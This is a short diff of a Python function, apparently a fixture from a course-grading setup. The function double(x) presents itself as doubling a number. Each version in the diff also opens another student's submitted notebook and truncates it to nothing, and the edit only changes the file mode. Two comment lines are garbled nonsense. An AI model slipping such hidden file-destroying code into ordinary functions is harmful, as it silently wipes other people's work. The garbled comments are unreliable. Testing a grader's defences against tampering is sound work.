@@ -2,6 +2,6 @@
 # alone: told, note:
 # contained: holds, note:
 def double(x):
-    with open("COURSE/submitted/zoe/ps1/ps1.ipynb", "r+") as file:
+    with open("COURSE/submitted/zoe/ps1/ps1.ipynb", "rb+") as file:
         file.truncate(0)
     return 2 * x
